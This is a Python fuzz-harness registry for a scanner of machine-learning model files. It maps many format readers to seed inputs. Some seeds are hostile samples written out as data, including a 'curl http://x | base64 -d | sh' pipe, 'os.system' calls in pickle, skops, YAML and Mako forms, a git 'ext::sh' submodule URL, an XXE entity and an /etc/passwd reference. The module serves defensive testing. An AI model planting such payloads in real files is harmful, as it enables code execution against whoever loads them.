"""Every reader of hostile bytes, ready to be fuzzed. A new reader needs a line here: tests/fuzz says when it lacks."""

from __future__ import annotations

import errno
import io
from functools import partial
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pyarrow.parquet as pq

from assay.core.errors import ContentError
from assay.core.limits import Limits
from tests.support import fuzz_seeds as seeds
from tests.support.fuzz import MEMORY_BYTES, Parser

if TYPE_CHECKING:
    from collections.abc import Callable

LIMITS = Limits()
_OPENED = 20  # members of one container that are expanded
_READ = 1 << 16
_FARTHEST = 16 << 40  # ext4's largest file


class AsOnDisk(io.BytesIO):
    """Bytes that answer as an open file does: far offsets are refused, and a read allocates what it asks for."""

    def seek(self, offset: int, whence: int = io.SEEK_SET, /) -> int:
        if offset >= 1 << 63:
            raise ValueError("cannot fit 'int' into an offset-sized integer")
        if offset > _FARTHEST or (offset < 0 and whence == io.SEEK_SET):
            raise OSError(errno.EINVAL, "Invalid argument")
        return super().seek(offset, whence)

    def read(self, size: int | None = -1, /) -> bytes:
        if size is not None and size > MEMORY_BYTES:
            raise MemoryError(f"a read of {size} bytes")
        return super().read(size)


def _function(name: str) -> Any:
    """`formats.json_text.read_json`, imported when it is needed."""
    from importlib import import_module

    module, _, function = name.rpartition(".")
    return getattr(import_module(f"assay.{module}"), function)


def _binary(reader: str, data: bytes, *more: Any) -> object:
    """A reader of (stream, size, limits)."""
    result = _function(reader)(AsOnDisk(data), len(data), LIMITS, *more)
    return list(result) if hasattr(result, "__next__") else result


def _xet(reader: str, data: bytes) -> object:
    """A shard, or the first chunks of a xorb."""
    read = _function(reader)
    return list(read(data, 0, 3)) if reader.endswith("read_chunks") else read(data)


def _container(reader: str, data: bytes) -> object:
    """A container: all it lists, and what its members expand to."""
    return _members(_binary(reader, data), len(data))


def _members(archive: Any, packed: int) -> object:
    from assay.formats.containers.members import Budget

    budget, found = Budget(LIMITS, packed), []
    for member in archive.members[:_OPENED]:
        try:
            with archive.open(member, budget) as stream:
                found.append((stream.read(_READ), stream.seek(0, io.SEEK_END)))
        except ContentError as error:
            found.append((str(error), 0))
    return archive.members, archive.anomalies, getattr(archive, "late", ()), found


def _compressed(form: str, data: bytes) -> object:
    from assay.formats.containers.streams import read_stream

    return _members(read_stream(AsOnDisk(data), len(data), form, f"x.{form}"), len(data))


def _whole(reader: str, data: bytes, **options: Any) -> object:
    """A reader of bytes."""
    return _function(reader)(data, **options)


def _document(reader: str, data: bytes) -> object:
    """A reader of a parsed JSON document."""
    return _function(reader)(_function("formats.json_text.read_json")(data, depth=LIMITS.json_depth).value)


def _text(reader: str, data: bytes, **more: Any) -> object:
    """A reader of text."""
    return _function(reader)(data.decode("utf-8", "replace"), **more)


def _listed(reader: str, data: bytes) -> object:
    """A reader of text that gives one thing after the other."""
    return list(_function(reader)(data.decode("utf-8", "replace")))


def _yaml_values(reader: str, data: bytes) -> object:
    """Values of YAML, which may hold themselves, as the inspector walks them."""
    from assay.inspections.references import references

    documents = _function(reader)(data.decode("utf-8", "replace"), depth=32)
    return [str(reference) for document in documents for reference in references(document, "config.yaml")]


def _tensorflow(reader: str, data: bytes) -> object:
    from assay.inspections.tensorflow import operations

    known = operations()
    return _binary(reader, data, known.leaves.keys() | known.told)


def _pickle(data: bytes) -> object:
    """Every pickle that lies in a row, as the inspector reads them."""
    from assay.formats.pickle.reader import Reader

    reader = Reader(AsOnDisk(data), len(data), LIMITS, seconds=4.0)
    found, place = [], 0
    while place < len(data) and len(found) < _OPENED:
        trace = reader.read(place)
        found.append(trace)
        if not trace.complete or trace.end <= place:
            break
        place = trace.end
    return found


def _sniff(data: bytes) -> object:
    from assay.formats.sniff import HEAD_BYTES, TAIL_BYTES, sniff

    head, tail = data[:HEAD_BYTES], data[-TAIL_BYTES:]
    return [sniff(head, tail, len(data), name) for name in ("x", "model.bin", "x.py", "a/config.json", "x.pb", "x.pkl")]


def _everything() -> list[bytes]:
    families = ("pickle", "torch", "numpy", "keras", "tensorflow", "onnx", "gguf", "polyglot", "scripts", "references")
    return seeds.corpus(*families)[::3] + seeds.zips() + seeds.tars() + seeds.sevenzips()


def _tflite() -> list[bytes]:
    from tests.support.builders.flatbuffers import tflite

    return [
        tflite("FlexPyFunc", "Mine"),
        tflite(used=(99,)),
        tflite(buffer_offset=64),
        *seeds.corpus("tensorflow", suffix=".tflite"),
    ]


def _executorch() -> list[bytes]:
    from tests.support.builders.flatbuffers import executorch

    return [executorch("aten::add", "my::op", delegate="XnnpackBackend"), executorch()]


def _graphs(*, saved: bool) -> list[bytes]:
    from tests.support.builders import tensorflow as tf

    nodes = [tf.const("c", "a", "b"), tf.node("w", "WriteFile", "c", attributes={"T": tf.text_attribute("x")})]
    plain = tf.graph(*nodes, functions=(tf.function("f", *nodes),))
    return (
        [tf.saved_model(plain, ("a",)), *seeds.corpus("tensorflow", suffix="saved_model.pb")]
        if saved
        else [plain, *seeds.corpus("tensorflow")]
    )


def _keras_metadata() -> list[bytes]:
    from tests.support.builders.tensorflow import keras_metadata

    return [
        keras_metadata(("root", "_tf_keras_model", {"a": 1}), ("root.l", "_tf_keras_layer", {"class_name": "Lambda"}))
    ]


def _keras() -> list[bytes]:
    from tests.support.builders import keras

    text = keras.code(_keras)
    layers = [keras.layer("Dense"), keras.lambda_v3(text), keras.lambda_v2(text), keras.function("eval")]
    layers.append(keras.layer("StringLookup", vocabulary="/etc/passwd"))
    return seeds.documents(*(keras.model(layer) for layer in layers), keras.model(*layers, module="os"))


def _gguf() -> list[bytes]:
    from tests.support.builders.gguf import gguf, tensor

    values = {"a": ["x", "y"], "b": True, "c": 1.5, "d": [[1]], "tokenizer.chat_template": "{{ x }}"}
    return [gguf(values, (tensor("t", (8,), 0, 0),), b"\0" * 32), *seeds.corpus("gguf"), *seeds.fixtures("*.gguf")]


def _msgpack() -> list[bytes]:
    from tests.support.builders import small

    array = small.msgpack_ext(1, b"\x93\x91\x02\xa7float32\xc4\x08" + b"\0" * 8)
    return [small.msgpack_map(array, b"\x92\x01\xc0", b"\xdc\0\x01\xa1x", small.msgpack_ext(77, b"y"))]


def _coreml() -> list[bytes]:
    from tests.support.builders import small

    models = [small.coreml_custom("C"), small.coreml_network("L"), small.coreml_program("weights/w.bin")]
    return [*models, small.coreml_pipeline(*models), *seeds.corpus("coreml")]


def _paddles() -> list[bytes]:
    from tests.support.builders import small

    return [small.paddle(("save", {"file_path": "/x"}), ("relu", {})), small.paddle(("py_func", {"a": "b"}))]


def _paddle(data: bytes) -> object:
    return _binary("formats.paddle.read_paddle", data, {"save", "py_func"})


def _xmls() -> list[bytes]:
    from tests.support.builders import small

    entity = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///x">]>'
    layers = small.openvino(("Add", "opset1"), ("Mine", "extension"))
    return seeds.texts(layers, small.pmml("<a b='c'/><d>&x;</d>", entity), small.pmml("<Apply function='f'/>"))


def _xml(data: bytes) -> object:
    found: list[object] = []
    return _function("formats.xml_text.read_xml")(AsOnDisk(data), LIMITS, found.append), found


def _skops() -> list[bytes]:
    node = {"__loader__": "ObjectNode", "__module__": "a", "__class__": "B", "content": {"__loader__": "FunctionNode"}}
    old = {"__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}
    return seeds.documents(
        node, old, {**node, "content": [old, {"__loader__": "TypeNode", "content": {}}], "file": "x"}
    )


def _exported() -> list[bytes]:
    node = {"target": "torch.ops.aten.add.Tensor", "inputs": [{"name": "self", "arg": {"as_string": "x"}}]}
    more = {
        "target": "os.system",
        "inputs": [{"arg": {"as_strings": ["a", 1]}}],
        "outputs": [{"expr_str": "s0 + f(1)"}],
    }
    return seeds.documents({"graph_module": {"graph": {"nodes": [node, more]}}, "schema_version": {"major": 8}})


def _python() -> list[bytes]:
    from pathlib import Path

    return [
        Path(__file__).read_bytes(),
        b"import os\nos.system('id')\n" * 3,
        *seeds.corpus("python", "scripts", suffix=".py"),
    ]


def _mako() -> list[bytes]:
    return seeds.texts(
        "<%! import os %>\n% for x in range(3):\n${x | h}\n% endfor\n<%\nos.system('id')\n%>\n",
        "<%def name='f(a)'>${a}</%def>\n<%include file='x'/>\n## note\n<%doc>${1}</%doc>\n<%text>${2}</%text>\n",
    )


def _shell() -> list[bytes]:
    return seeds.texts(
        "curl http://x | base64 -d | sh\nA=1; eval $A\n", "echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash\n"
    ) + seeds.corpus("scripts")


def _notebook() -> list[bytes]:
    cell = {
        "cell_type": "code",
        "source": ["!ls\n", "%%bash\n", "import os"],
        "outputs": [{"data": {"text/html": "<script>"}}],
    }
    return seeds.documents(
        {"cells": [cell], "metadata": {"kernelspec": {"language": "python"}}}, {"worksheets": [{"cells": [cell]}]}
    )


def _p(
    name: str,
    run: Callable[..., object],
    reader: str,
    made: Callable[[], list[bytes]],
    *also: str,
    make: Any = None,
    total: bool = False,
    **options: Any,
) -> Parser:
    """A parser whose `run` takes the reader's name; `also` are readers that it reaches, `options` the reader's own."""
    return Parser(name, partial(run, reader, **options), made, (reader, *also), make=make, total=total)


_BYTES = {"make": seeds.changed_text}
_TREE = {"make": seeds.changed_document}
_C = "formats.containers"


def _zips() -> list[bytes]:
    return seeds.zips() + seeds.corpus("polyglot", "torch")[::3]


def _hdf5() -> list[bytes]:
    return [*seeds.fixtures("*.h5"), *seeds.corpus("hdf5-set")]


def _databases() -> list[bytes]:
    return seeds.corpus("program", suffix=".db")


def _tables() -> list[bytes]:
    """Parquet with columns of bytes, packed in each way that is read."""
    column = pa.table({"n": [1, 2], "v": [b"".join(seeds.pickles()[:3]) * 4, bytes(900)]})
    found = []
    for codec in ("snappy", "brotli", "gzip", "zstd", "lz4"):
        buffer = io.BytesIO()
        pq.write_table(column, buffer, compression=codec, write_statistics=False)
        found.append(buffer.getvalue())
    return found


def _embedded() -> list[bytes]:
    ways = [part.hex() for part in seeds.pickles()[:2]] + [part.decode("latin-1") for part in seeds.pickles()[:2]]
    return seeds.documents({"state": ways}) + seeds.documents(
        {":serialized:": "gASVBQAAAAAAAABLAS4="}, ["gAJLAS4AAAAAAAA="]
    )


def _yaml() -> list[bytes]:
    return [
        b"a: &x [1, *x]\nb: {<<: *x, _target_: \"os.\\x73ystem\"}\n---\n? [k]\n: !!python/name:os.system ''\n",
        *seeds.texts(*seeds.CARDS),
    ]


def _git() -> list[bytes]:
    return [b'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c true\n\tupdate = !true\n[lfs]\n\tprocess = run\n']


def _text_protos() -> list[bytes]:
    return [
        b'name: "m" # x\nbackend: "py" \'th\\157n\'\ninput [ { name: "x" dims: [ -1, 3 ] }, < d: T > ]\n',
        b'parameters: { key: "A" value: { string_value: "\\x2f\\n" } }\nv: { latest { n: 1 } } on: true\n',
    ]


def _properties() -> list[bytes]:
    return [b"# c\na=1\nb : x \\\n  y\nc\\u0061\\=\\t 2\r\n! d\nvmargs=-Xmx1g -javaagent:/x.jar\ne\\"]


def _carved() -> list[bytes]:
    return [bytes(40) + b"".join(seeds.pickles()[:6]), b"".join(part.ljust(512, b"\0") for part in seeds.pickles()[:6])]


def _compression(form: str) -> Parser:
    return Parser(form, partial(_compressed, form), partial(seeds.compressed, form), (f"{_C}.streams.read_stream",))


BINARY: tuple[Parser, ...] = (
    Parser("sniff", _sniff, _everything, ("formats.sniff.sniff",), total=True),
    _p("safetensors", _binary, "formats.safetensors.read_safetensors", lambda: seeds.corpus("safetensors")),
    _p("gguf", _binary, "formats.gguf.read_gguf", _gguf),
    _p("onnx", _binary, "formats.onnx.read_onnx", lambda: [*seeds.fixtures("*.onnx"), *seeds.corpus("onnx")]),
    _p("saved-model", _tensorflow, "formats.tensorflow.read_saved_model", lambda: _graphs(saved=True)),
    _p("graph-def", _tensorflow, "formats.tensorflow.read_graph_def", lambda: _graphs(saved=False)),
    _p("keras-metadata", _binary, "formats.tensorflow.read_keras_metadata", _keras_metadata),
    _p("hdf5", _binary, "formats.hdf5.reader.read_hdf5", lambda: [*seeds.fixtures("*.h5"), *seeds.corpus("hdf5")]),
    _p("tflite", _binary, "formats.tflite.read_tflite", _tflite),
    _p("executorch", _binary, "formats.tflite.read_executorch", _executorch),
    _p("r-data", _binary, "formats.rdata.read_rdata", lambda: [*seeds.fixtures("*.rd[as]"), *seeds.corpus("r")]),
    _p("tensor-bundle", _binary, "formats.tensor_bundle.read_bundle", lambda: seeds.fixtures("*/*/variables.index")),
    _p("msgpack", _binary, "formats.msgpack.read_msgpack", _msgpack),
    _p("ubjson", _binary, "formats.ubjson.read_ubjson", lambda: seeds.fixtures("*.ubj")),
    _p("torch-state", _binary, "formats.torch_state.read_torch_state", seeds.state_dicts),
    _p("xet-shard", _xet, "formats.xet.read_shard", seeds.xet_shards),
    _p("xet-xorb", _xet, "formats.xet.read_chunks", seeds.xorbs),
    _p("coreml", _binary, "formats.coreml.read_coreml", _coreml),
    Parser("paddle", _paddle, _paddles, ("formats.paddle.read_paddle",)),
    Parser("xml", _xml, _xmls, ("formats.xml_text.read_xml",), make=seeds.changed_text),
    _p("npy", _binary, f"{_C}.npy_array.read_npy", lambda: seeds.corpus("numpy", suffix=".npy")),
    _p("marshal", _whole, "formats.marshalled.read_marshalled", seeds.marshalled),
    Parser("pickle", _pickle, seeds.pickles, (), make=seeds.program_of, total=True),
)
CONTAINERS: tuple[Parser, ...] = (
    _p(
        "zip", _container, f"{_C}.zip_archive.read_zip", _zips,
        f"{_C}.zip_records.read_central", f"{_C}.zip_records.read_local", f"{_C}.zip_records.find_end_records",
    ),
    _p("tar", _container, f"{_C}.tar_archive.read_tar", lambda: seeds.tars() + seeds.corpus("escape")),
    _p(
        "7z", _container, f"{_C}.sevenzip.read_7z", seeds.sevenzips, f"{_C}.sevenzip_header.read_header",
        f"{_C}.sevenzip_header.read_streams", f"{_C}.sevenzip_header.read_files",
    ),
    *(_compression(form) for form in ("gzip", "bzip2", "xz", "lzma", "zlib")),
    _p("hdf5-values", _container, f"{_C}.hdf5_values.read_hdf5_values", _hdf5, "formats.hdf5.filters.read_filters"),
    _p("sqlite-values", _container, f"{_C}.sqlite_values.read_sqlite_values", _databases),
    _p("embedded", _container, f"{_C}.embedded.read_embedded", _embedded, f"{_C}.text_pickles.find"),
    _p(
        "packed-columns", _container, f"{_C}.packed_columns.read_packed_columns", _tables, "formats.thrift.Reader",
        "formats.snappy.expand",
    ),
    _p("carved", _container, f"{_C}.carved.read_carved", _carved),
)  # fmt: skip
TEXT: tuple[Parser, ...] = (
    _p(
        "json", _whole, "formats.json_text.read_json", lambda: [*_keras(), b'[1, {"a": null, "a": 2}]'], depth=128,
        **_TREE,
    ),
    _p("yaml", _text, "formats.yaml_text.read_yaml", lambda: seeds.texts(*seeds.CARDS), depth=32, **_BYTES),
    _p("yaml-values", _yaml_values, "formats.yaml_text.read_yaml_values", _yaml, **_BYTES),
    _p("keras", _document, "formats.keras.read_keras", _keras, **_TREE),
    _p("skops", _document, "formats.skops.read_skops", _skops, **_TREE),
    _p("torch-export", _document, "formats.torch_export.read_exported", _exported, **_TREE),
    _p(
        "torchscript", _whole, "formats.torch_export.read_script", lambda: seeds.texts(*seeds.SCRIPTS), limit=1 << 20,
        **_BYTES,
    ),
    _p("python", _whole, "sourcecode.python.read_python", _python, limits=LIMITS, total=True, **_BYTES),
    _p("mako", _text, "sourcecode.mako.read_mako", _mako, total=True),
    _p("shell", _text, "sourcecode.shell.read_shell", _shell, total=True, **_BYTES),
    _p(
        "requirements", _text, "sourcecode.requirements.read_requirements",
        lambda: seeds.texts(*seeds.REQUIREMENTS), total=True, **_BYTES,
    ),
    _p("text-proto", _listed, "formats.text_proto.read_text_proto", _text_protos, total=True, **_BYTES),
    _p("properties", _listed, "formats.properties.read_properties", _properties, total=True, **_BYTES),
    _p("git-settings", _listed, "sourcecode.automation.read_git_settings", _git, total=True, **_BYTES),
    _p("notebook", _whole, "sourcecode.notebook.read_notebook", _notebook, limits=LIMITS, **_TREE),
    _p(
        "template", _text, "sourcecode.jinja.read_template", lambda: seeds.texts(*seeds.TEMPLATES), total=True,
        **_BYTES,
    ),
    _p("hidden-text", _text, "sourcecode.hidden.find_hidden", lambda: seeds.texts(*seeds.HIDDEN), total=True),
)  # fmt: skip
PARSERS = BINARY + CONTAINERS + TEXT
